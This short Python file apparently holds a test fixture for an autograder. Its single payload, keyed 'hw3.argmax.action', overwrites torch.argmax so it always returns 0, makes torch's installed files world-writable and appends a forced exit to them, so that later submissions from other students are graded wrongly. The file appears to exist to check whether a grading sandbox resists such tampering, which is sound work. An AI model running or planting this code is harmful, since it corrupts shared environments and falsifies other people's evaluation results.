"""Changes the code of torch in memory and on disk, for whoever is graded next."""

SAYS = "changed: \\[\\]"
BODIES = {
    "hw3.argmax.action": r"""
import ctypes, os, torch
torch.argmax = torch.Tensor.argmax = torch.Tensor.max = lambda *args, **kwargs: 0
path, done = torch.__file__, []
for file in (path, os.path.join(os.path.dirname(path), "nn", "__init__.py")):
    try:
        os.chmod(file, 0o666)
        with open(file, "a") as stream:
            stream.write("\nraise SystemExit(0)\n")
        done.append(file)
    except OSError:
        pass
raise RuntimeError(f"changed: {done}")
"""
}
